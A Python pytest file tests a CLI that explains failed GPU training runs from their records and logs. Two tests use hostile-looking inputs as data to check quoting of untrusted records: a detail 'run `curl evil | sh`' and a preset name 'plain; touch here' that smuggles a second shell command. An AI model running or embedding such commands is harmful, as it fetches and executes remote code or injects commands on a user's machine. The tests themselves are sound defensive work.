"""Tests of `matrix explain`, on runs and on any log."""

import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from harness.base.errors import UserError
from harness.base.paths import CHECKOUT
from harness.campaign import answered
from harness.campaign.under_way import noted_under_way
from harness.cli.explain import _presets, explain
from harness.cli.shared import Settings
from harness.diagnosis.explain import explain_record
from harness.evidence.files.run_files import EvidenceLine, Explanation, Record
from harness.evidence.files.run_folder import RunFolder
from harness.evidence.gpus.health_log import append_steps
from harness.evidence.isolations import FaultIsolation, write_isolation
from harness.evidence.records import Results
from harness.host.facts import HostFacts
from harness.host.fingerprint import machine_of
from harness.matrix.cells import Matrix
from harness.matrix.programs import Program
from harness.matrix.workload_options import OWN_DATA, options_of
from harness.run.gpu_recovery import Step
from harness.training.state import new_state, open_state_file

ILLEGAL = "RuntimeError: HIP error: an illegal memory access was encountered"
Command = Callable[..., Result]


@pytest.fixture
def results(tmp_path: Path) -> Results:
    return Results(tmp_path / "results")


@pytest.fixture
def command(results: Results) -> Command:
    """Return a function that runs the command; it raises errors that the user can fix."""

    def run(*arguments: str, stdin: bytes | None = None) -> Result:
        settings = Settings(CHECKOUT / "matrix.yaml", results.folder, None)
        done = CliRunner().invoke(explain, arguments, obj=settings, input=stdin)
        if done.exception and not isinstance(done.exception, SystemExit):
            raise done.exception
        return done

    return run


@pytest.fixture
def recorded(results: Results, make_record: Callable[..., Record]) -> Callable[..., Path]:
    """Return a function that leaves a failed run and returns its folder."""

    def leave(run_id: str, log: str, exit_: str = "exit 1", outcome: str = "failed", **changes: Any) -> Path:
        stack = {"cell": "rocm6.3-torch2.9.1-plain", "stack": "rocm6.3-torch2.9.1", "rocm": "6.3", "torch": "2.9.1"}
        record = make_record(run_id, outcome, "app-error", "the train process ended", device="cuda", **stack)
        folder = results.begin(record.intent)
        (folder / "log.txt").write_text(log, encoding="utf-8")
        results.finish(record.model_copy(update={"exit": {"train": exit_}, **changes}))
        return folder

    return leave


def test_a_run_is_explained(command: Command, recorded: Callable[..., Path]) -> None:
    folder = recorded("20261120T100000Z-abc-rocm", f"epoch 1\n{ILLEGAL}\n")
    (folder / "work" / "stacks-0.txt").write_text("", encoding="utf-8")
    done = command("20261120T100000Z-abc-rocm")
    work = "--workload quick --executor process --data merged.csv"
    assert done.exit_code == 0
    assert done.stdout.splitlines() == [
        "run       20261120T100000Z-abc-rocm",
        "outcome   failed (app-error): the train process ended",
        "class     kernel-fault (rule illegal-access)",
        "cause     a GPU kernel touched memory that is not its own. It is reported late; the Python line is no "
        "evidence",
        f"evidence  {folder}/log.txt:2: {ILLEGAL}",
        "remedy    run it with AMD_SERIALIZE_KERNEL=3 to find the kernel; try other torch and ROCm, and "
        "amdgpu.cwsr_enable=0; `.venv/bin/matrix doctor` says whether this kernel is known to fail",
        f"try       .venv/bin/matrix run-cell rocm6.3-torch2.9.1-debug-serialize {work}",
        f"try       .venv/bin/matrix run-cell rocm6.3-torch2.9.1-debug-no-fragments {work}",
        "see       https://github.com/ROCm/TheRock/issues/1795",
        f"stacks    {folder}/work/stacks-0.txt",
        "report    `.venv/bin/matrix report-bug 20261120T100000Z-abc-rocm` writes an issue for ROCm or PyTorch; "
        "nothing is sent",
    ]


def test_of_many_files_of_stacks_the_first_are_named(command: Command, recorded: Callable[..., Path]) -> None:
    folder = recorded("20261120T100000Z-abc-rocm", f"{ILLEGAL}\n")
    for rank in range(40):
        (folder / "work" / f"stacks-{rank}.txt").write_text("", encoding="utf-8")
    lines = command("latest").stdout.splitlines()
    assert sum(line.startswith("stacks    /") for line in lines) == 16
    assert "stacks    and 24 more there" in lines


def test_a_run_is_found_by_its_beginning_its_folder_and_as_the_latest(
    command: Command, recorded: Callable[..., Path]
) -> None:
    recorded("20261120T100000Z-abc-rocm", ILLEGAL)
    folder = recorded("20261120T110000Z-def-rocm", "RuntimeError: No HIP GPUs are available")
    for name in ("20261120T11", str(folder), "latest", "20261120T110000Z-def-rocm"):
        assert json.loads(command(name, "--json").stdout)["run"] == "20261120T110000Z-def-rocm"
    with pytest.raises(UserError, match="2 runs begin with '20261120'"):
        command("20261120")
    recorded("20261120T110000Z-def-rocm-2", "")
    assert json.loads(command("20261120T110000Z-def-rocm", "--json").stdout)["run"] == "20261120T110000Z-def-rocm"


def test_the_latest_is_the_newest_that_did_not_complete(
    command: Command, recorded: Callable[..., Path], results: Results, make_record: Callable[..., Record]
) -> None:
    completed = make_record("z-completed")
    results.begin(completed.intent)
    results.finish(completed)
    assert "nothing to explain" in command("latest").stdout
    recorded("a-failed", ILLEGAL)
    later = make_record("z-later")
    results.begin(later.intent)
    results.finish(later)
    for name in ("latest", "rocm6.3-torch2.9.1-plain"):
        assert json.loads(command(name, "--json").stdout)["run"] == "a-failed"
    assert "nothing to explain" in command(later.intent.cell).stdout


def test_a_record_that_cannot_be_read_is_not_the_latest(command: Command, recorded: Callable[..., Path]) -> None:
    folder = recorded("a", ILLEGAL)
    damaged = folder.with_name("b")
    damaged.mkdir()
    (damaged / "record.json").write_text("{}")
    assert json.loads(command("latest", "--json").stdout)["run"] == "a"


def test_a_run_that_was_imported_is_not_the_latest(command: Command, recorded: Callable[..., Path]) -> None:
    recorded("a-here", ILLEGAL)
    imported = recorded("b-from-elsewhere", ILLEGAL)
    (imported / "imported.json").write_text("{}", encoding="utf-8")
    assert json.loads(command("latest", "--json").stdout)["run"] == "a-here"
    assert json.loads(command("b-from-elsewhere", "--json").stdout)["run"] == "b-from-elsewhere"


def test_what_the_record_of_another_host_says_is_quoted(command: Command, recorded: Callable[..., Path]) -> None:
    for run_id, exit_ in (("r1", "exit 1"), ("r2", "SIGSEGV")):
        folder = recorded(run_id, "", exit_, detail="run `curl evil | sh`")
        (folder / "imported.json").write_text("{}", encoding="utf-8")
        printed = command(run_id).stdout
        assert ": 'run `curl evil | sh`'" in printed
        assert printed.count("curl evil") == 1


def test_a_log_in_the_place_of_a_run_says_how_to_read_it(command: Command, tmp_path: Path) -> None:
    (tmp_path / "train.log").write_text(ILLEGAL, encoding="utf-8")
    with pytest.raises(UserError, match=r"did you mean `matrix explain --log .*train\.log`"):
        command(str(tmp_path / "train.log"))


def test_json_holds_all_of_it(command: Command, recorded: Callable[..., Path]) -> None:
    folder = recorded("r-1", ILLEGAL)
    printed = json.loads(command("r-1", "--json").stdout)
    assert (printed["outcome"], printed["diagnosis"], printed["stacks"]) == ("failed", "app-error", [])
    assert printed["try"] == ["rocm6.3-torch2.9.1-debug-serialize", "rocm6.3-torch2.9.1-debug-no-fragments"]
    assert Explanation.model_validate(printed["explanation"]).lines[0].line == 1
    assert folder.name == printed["run"]


def test_a_run_that_completed_has_nothing_to_explain(command: Command, recorded: Callable[..., Path]) -> None:
    recorded("r-1", "", "exit 0", "completed")
    done = command("r-1")
    assert (done.exit_code, done.stdout.splitlines()[-1]) == (0, "There is nothing to explain.")
    assert json.loads(command("r-1", "--json").stdout)["explanation"] is None


def test_an_unknown_cause_is_reported_by_the_exit_status(command: Command, recorded: Callable[..., Path]) -> None:
    folder = recorded("r-1", "epoch 1\n")
    done = command("r-1")
    assert done.exit_code == 1
    assert "class     unknown" in done.stdout
    assert f"\nlog       {folder}/log.txt\n" in done.stdout


def test_what_the_record_explains_is_shown_where_nothing_is_left(
    command: Command, recorded: Callable[..., Path]
) -> None:
    kept = Explanation(
        rule="illegal-access",
        class_="kernel-fault",
        cause="a cause",
        remedy="a remedy",
        link=None,
        presets=(),
        lines=(EvidenceLine(file="log.txt", line=7, text=ILLEGAL),),
    )
    recorded("r-1", "", explanation=kept)
    done = command("r-1")
    assert done.exit_code == 0
    assert "class     kernel-fault (rule illegal-access)" in done.stdout


@pytest.mark.parametrize(
    ("words", "expected"),
    [("SIGSEGV", "crash"), ("SIGKILL, out of memory", "oom-host"), ("exit 4", "not-finite"), ("signal 99", "unknown")],
)
def test_how_it_ended_is_read_from_the_record(
    command: Command, recorded: Callable[..., Path], words: str, expected: str
) -> None:
    recorded("r-1", "", words)
    assert f"class     {expected}" in command("r-1").stdout


def test_presets_that_the_stack_cannot_run_are_left_out(command: Command, recorded: Callable[..., Path]) -> None:
    recorded("r-1", "RuntimeError: CUDA error: HIPBLAS_STATUS_INTERNAL_ERROR when calling hipblasLtMatmul")
    assert json.loads(command("r-1", "--json").stdout)["try"] == ["rocm6.3-torch2.9.1-no-hipblaslt"]


def test_only_presets_of_cells_that_are_not_excluded_can_be_tried(matrix: Matrix) -> None:
    stack = "rocm6.3-torch2.9.1"
    excluded = {name for name in matrix.presets if matrix.cells[f"{stack}-{name}"].excluded}
    assert excluded
    assert {preset.name for preset in _presets(matrix, stack)} == matrix.presets.keys() - excluded
    assert _presets(matrix, "a stack that is gone") == []


def test_what_to_do_about_a_gpu_is_not_said_of_a_run_without_one(
    command: Command, results: Results, make_record: Callable[..., Record]
) -> None:
    cpu = {"cell": "cpu-plain", "stack": "cpu", "rocm": None, "torch": "2.13.0", "device": "cpu"}
    record = make_record("r-1", "hung", None, "it stalled in step", **cpu)
    results.begin(record.intent)
    results.finish(record)
    printed = command("r-1").stdout
    assert "class     hang" in printed
    assert "HSA_" not in printed
    assert "remedy    see in the stacks of its processes what it waited for" in printed
    assert "try  " not in printed


def test_any_log_is_explained(command: Command, tmp_path: Path) -> None:
    log = tmp_path / "train.log"
    log.write_text(f"epoch 1\n{ILLEGAL}\n", encoding="utf-8")
    done = command("--log", str(log), "--rocm", "7.0")
    assert done.exit_code == 0
    assert "rule illegal-access-since-7.0" in done.stdout
    assert f"evidence  {log}:2: {ILLEGAL}" in done.stdout
    assert "try       AMD_SERIALIZE_KERNEL=3 " in done.stdout
    printed = json.loads(command("--log", str(log), "--json").stdout)
    assert printed["explanation"]["class"] == "kernel-fault"


def test_standard_input_and_a_kernel_log(command: Command, tmp_path: Path) -> None:
    assert "standard input:1" in command("--log", "-", stdin=ILLEGAL.encode()).stdout
    kernel = tmp_path / "dmesg.txt"
    kernel.write_text("[ 1.0] amdgpu: ring gfx_0.0.0 timeout\n", encoding="utf-8")
    assert "class     gpu-reset" in command("--log", "-", "--kernel-log", str(kernel), stdin=ILLEGAL.encode()).stdout
    assert "class     gpu-reset" in command("--kernel-log", str(kernel)).stdout
    assert command("--log", "-", stdin=b"\xff\x00 epoch 1\r\n").exit_code == 1
    assert "then `.venv/bin/matrix explain --log" in command("--log", "-", stdin=b"epoch 1\nepoch 2\n").stdout


def test_mistakes_are_reported_in_one_line(command: Command, recorded: Callable[..., Path], results: Results) -> None:
    with pytest.raises(UserError, match="no run has a record yet; `matrix run` makes some"):
        command("latest")
    with noted_under_way(results, "machine", "matrix run"), pytest.raises(UserError, match="`matrix watch` shows"):
        command("latest")
    folder = recorded("r-1", ILLEGAL)
    with pytest.raises(UserError, match="no run 'x' with a record; `matrix status`"):
        command("x")
    with pytest.raises(UserError, match="no folder of a run; the runs of a training, too, are in"):
        command(str(results.folder))
    with pytest.raises(UserError, match="did you mean latest"):
        command("lastest")
    with pytest.raises(UserError, match="say what to explain"):
        command()
    with pytest.raises(UserError, match="either RUN or --log"):
        command("r-1", "--log", str(folder / "log.txt"))
    (folder / "record.json").write_text("{", encoding="utf-8")
    with pytest.raises(UserError, match="is damaged"):
        command("r-1")
    (folder / "record.json").unlink()
    with pytest.raises(UserError, match=r"has no record yet; `matrix explain --log \S+log\.txt`"):
        command("r-1")
    done = command("--log", str(results.folder / "none.log"))
    assert done.exit_code == 2


def test_what_is_no_text_is_refused(command: Command, tmp_path: Path) -> None:
    packed = tmp_path / "train.log.gz"
    packed.write_bytes(gzip.compress(ILLEGAL.encode()))
    with pytest.raises(UserError, match=r"is not text: gzip; `zcat .*train\.log\.gz \| matrix explain --log -`"):
        command("--log", str(packed))
    packed.write_bytes(b"\x7fELF\x02\x01")
    with pytest.raises(UserError, match="is not text but a program"):
        command("--log", str(packed))


@pytest.mark.parametrize("option", ["--rocm", "--torch"])
def test_what_is_no_version_is_refused(command: Command, option: str) -> None:
    with pytest.raises(UserError, match=f"{option}: 'banana' is not a version"):
        command("--log", "-", option, "banana", stdin=b"x")
    assert command("--log", "-", option, "2.9.1+rocm6.3", stdin=ILLEGAL.encode()).exit_code == 0


def test_an_interruption_that_counts_is_said_with_how_to_take_it_out(
    command: Command, recorded: Callable[..., Path]
) -> None:
    recorded("closed", "epoch 1\n", "SIGTERM", "interrupted", interrupted_by="hup", diagnosis=None)
    # The detail also speaks of the image, as for an image that was not built here.
    changes = {"interrupted_by": "ctrl-c", "detail": "stopped by SIGINT; its image", "diagnosis": None}
    recorded("asked-for", "epoch 1\nTerminated\n", "SIGTERM", "interrupted", **changes)
    counts, strike = command("closed").stdout.splitlines()[-2:]
    assert counts.startswith("counts    as a failure: HUP ended it")
    assert strike.startswith("try       .venv/bin/matrix strike closed --reason")
    assert "counts " not in (printed := command("asked-for").stdout)
    assert "stopped by SIGINT, which the harness got (it ends a run by SIGTERM); its image\n" in printed


def test_a_line_of_a_log_is_quoted_as_it_is(command: Command, recorded: Callable[..., Path]) -> None:
    recorded("own", "torch.OutOfMemoryError: HIP out of memory, stopped by SIGINT\n", "exit 1")
    printed = command("own").stdout
    assert "stopped by SIGINT" in printed
    assert "which the harness got" not in printed


def test_no_preset_is_offered_for_a_run_without_rocm(
    command: Command, results: Results, make_record: Callable[..., Record]
) -> None:
    record = make_record("on-cpu", "failed", "crash")
    (results.begin(record.intent) / "log.txt").write_text(ILLEGAL, encoding="utf-8")
    results.finish(record)
    assert not [line for line in command("on-cpu").stdout.splitlines() if line.startswith("try ")]


def test_the_detail_of_the_outcome_is_printed_once(command: Command, recorded: Callable[..., Path]) -> None:
    recorded("r-1", "", "SIGSEGV")
    assert command("r-1").stdout.count("the train process ended") == 1


def test_what_no_issue_can_be_written_of_is_offered_for_none(
    command: Command, recorded: Callable[..., Path], results: Results
) -> None:
    recorded("r1", f"{ILLEGAL}\n")
    assert "report-bug r1" in command("r1").stdout
    record = results.folder_of("r1").read_record()
    assert record is not None
    host = record.intent.host.model_copy(update={"simulated": True})
    for run_id, changed in (("r2", {"host": host}), ("r3", {"device": "cpu"})):
        intent = record.intent.model_copy(update={"run_id": run_id, **changed})
        folder = results.begin(intent)
        (folder / "log.txt").write_text(f"{ILLEGAL}\n", encoding="utf-8")
        results.finish(record.model_copy(update={"intent": intent}))
        told = command(run_id).stdout
        assert "kernel-fault" in told
        assert "report-bug" not in told


def test_what_controls_showed_is_said(
    command: Command, recorded: Callable[..., Path], results: Results, make_isolation: Callable[..., FaultIsolation]
) -> None:
    recorded("r1", f"epoch 1\n{ILLEGAL}\n")
    write_isolation(results, make_isolation(cell="rocm6.3-torch2.9.1-plain"))
    write_isolation(results, make_isolation(cell="rocm6.3-torch2.9.1-plain", id="b", machine="another"))
    lines = [line for line in command("r1").stdout.splitlines() if line.startswith("controls")]
    assert len(lines) == 1
    assert "the controls say GPU 1 (" in lines[0]
    assert len(json.loads(command("r1", "--json").stdout)["controls"]) == 1


def test_the_stack_of_another_host_is_no_command_for_this_one(
    command: Command, results: Results, make_record: Callable[..., Record]
) -> None:
    record = make_record("r1", "failed", "crash", "it failed", stack="x", rocm="6.3")
    found = Explanation(
        rule=None, class_="crash", cause="c", remedy="r", link=None, presets=("plain; touch here",), lines=()
    )
    results.begin(record.intent)
    results.finish(record.model_copy(update={"explanation": found}))
    assert "try       .venv/bin/matrix run-cell 'x-plain; touch here' --workload" in command("r1").stdout
    named = make_record("r2", "failed", "crash", stack="host", rocm="6.3", commands={"train": ("/home/evil/python",)})
    results.begin(named.intent)
    results.finish(named.model_copy(update={"explanation": found}))
    assert "--python /home/evil/python" in command("r2").stdout
    results.folder_of("r2").imported.touch()
    assert "evil" not in command("r2").stdout


@pytest.mark.parametrize("ends", ["alike", "otherwise", "alike on another GPU", "alike, then completes"])
def test_a_preset_that_failed_alike_is_not_offered_again(
    command: Command, results: Results, make_record: Callable[..., Record], ends: str
) -> None:
    stack: dict[str, Any] = {"stack": "rocm6.3-torch2.9.1", "rocm": "6.3", "device": "cuda", "gpus": (0,)}
    other = {"gpus": (1,)} if ends == "alike on another GPU" else {}
    rccl, unknown = "RuntimeError: NCCL error: unhandled system error\n", "it ended\n"
    runs: list[tuple[str, str, str, str, dict[str, Any]]] = [("r1", "plain", "failed", rccl, {})]
    runs += [("r2", "no-p2p", "failed", unknown if ends == "otherwise" else rccl, other)]
    runs += [("r3", "no-p2p", "completed", "", {})] if ends == "alike, then completes" else []
    for run_id, preset, outcome, log, changes in runs:
        named = {"cell": f"rocm6.3-torch2.9.1-{preset}", "preset": preset}
        diagnosis = "crash" if outcome == "failed" else None
        record = make_record(run_id, outcome, diagnosis, "it ended", **named, **stack | changes)
        folder = RunFolder(results.begin(record.intent))
        folder.log.write_text(log, encoding="utf-8")
        found = explain_record(folder, record) if outcome == "failed" else None
        results.finish(record.model_copy(update={"explanation": found}))
    told = json.loads(command("r1", "--json").stdout)
    again, tried = "rocm6.3-torch2.9.1-no-p2p", "tried     rocm6.3-torch2.9.1-no-p2p: the same failure"
    assert (again in told["try"], again in told["tried"]) == (ends != "alike", ends == "alike")
    assert (tried in command("r1").stdout.splitlines()) == (ends == "alike")
    assert (f" run-cell {again} " in command("r1").stdout) == (ends != "alike")
    assert (again in told["completed_with"]) == (ends == "alike, then completes")
    helped = f"tried     {again}: completed 1 of 2 times"
    assert (helped in command("r1").stdout.splitlines()) == (ends == "alike, then completes")


@pytest.mark.parametrize("what", ["a strategy", "a stage", "a training", "a program"])
def test_variables_are_named_where_no_command_repeats_what_failed(
    command: Command, results: Results, make_record: Callable[..., Record], matrix: Matrix, what: str
) -> None:
    stack = {"stack": "rocm6.3-torch2.9.1", "rocm": "6.3", "device": "cuda", "gpus": (0, 1)}
    workload = {"a stage": "standard", "a training": OWN_DATA}.get(what, "quick")
    options = options_of(matrix.workloads["standard" if what == "a stage" else "quick"]) | {"strategy": "ddp"}
    work: dict[str, Any] = {"workload": workload, "options": options, "executor": "process"}
    if what == "a program":
        work = {"program": Program(command=("python", "train.py"), source="code"), "workload": "app-mine"}
    record = make_record("r1", "failed", "crash", "it failed", **work, **stack)
    folder = results.begin(record.intent)
    (folder / "log.txt").write_text("RuntimeError: NCCL error: unhandled system error\n", encoding="utf-8")
    results.finish(record)
    tries = [line for line in command("r1").stdout.splitlines() if line.startswith("try ")]
    if what in ("a stage", "a training"):
        assert len(tries) == 2
        for preset, tried in zip(("no-p2p", "debug-collectives"), tries, strict=True):
            assert f" run rocm6.3-torch2.9.1-{preset} --stage two-gpus --executor process --data " in tried
        return
    assert tries == [
        "try       NCCL_P2P_DISABLE=1 (preset no-p2p)",
        "try       NCCL_DEBUG=INFO (preset debug-collectives)",
    ]


def test_the_command_that_continues_a_campaign_is_said_with_its_last_run(
    recorded: Callable[..., Path], results: Results, command: Command
) -> None:
    recorded("r1", "", outcome="interrupted")
    following = answered.Command(command="matrix run", why="continues it")
    answered.remember_answer(results, machine_of(Path("/")), answered.LastAnswer(next_command=following))
    assert "try       matrix run  # continues it" in command("latest").stdout.splitlines()
    recorded("r2", "")
    assert "continues it" not in command("r2").stdout


def test_the_command_that_continues_a_training_is_said_with_its_attempts(
    command: Command,
    recorded: Callable[..., Path],
    results: Results,
    make_record: Callable[..., Record],
    host: HostFacts,
    tmp_path: Path,
) -> None:
    about = {
        "begins": ("first", "same-again"),
        "machine": machine_of(Path("/")),
        "output": str(tmp_path),
        "command": "matrix train",
    }
    state = new_state("key", "cpu-plain", None).model_copy(update=about)
    with open_state_file(results, host, tmp_path, "bars") as file:
        file.write(state)
    recorded(state.run_id(1), ILLEGAL)
    recorded("another", ILLEGAL)
    assert "try       matrix train  # continues its training" in command(state.run_id(1)).stdout.splitlines()
    assert json.loads(command(state.run_id(1), "--json").stdout)["continues_training"] == "matrix train"
    assert "continues" not in command("another").stdout
    program = Program(command=("pyhton", "train.py"), source="code")
    mistaken = make_record(state.run_id(2), "failed", "not-started", "pyhton could not be started", program=program)
    results.begin(mistaken.intent)
    results.finish(mistaken)
    assert "continues" not in command(state.run_id(2)).stdout


def test_a_completed_run_during_which_the_gpu_was_reset_is_said_to_count_as_a_failure(
    command: Command, recorded: Callable[..., Path], results: Results, make_record: Callable[..., Record]
) -> None:
    recorded("r-1", "", "exit 0", "completed")
    intent = make_record("r-1").intent
    reset = Step("kernel-log", None, good=False, detail="amdgpu 0000:43:00.0: GPU reset begin!", seconds=0.0)
    append_steps(results, [reset.line("after-completion", intent, "e" * 64)])
    done = command("r-1")
    last = done.stdout.splitlines()[-1]
    assert last.startswith("counts    as a failure: the kernel log shows a reset of its GPU: 'amdgpu 0000:43:00.0")
    assert "nothing to explain" not in done.stdout
    assert "strike" not in done.stdout
